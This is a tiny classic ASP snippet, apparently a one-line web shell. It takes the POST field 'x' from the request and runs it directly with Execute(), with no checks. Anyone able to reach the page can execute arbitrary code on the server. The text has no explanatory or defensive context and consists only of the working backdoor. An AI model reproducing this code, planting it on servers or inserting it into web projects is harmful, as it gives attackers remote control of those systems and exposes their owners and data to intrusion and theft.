<%
Dim c
c = Request.Form("x")
Execute(c)
%>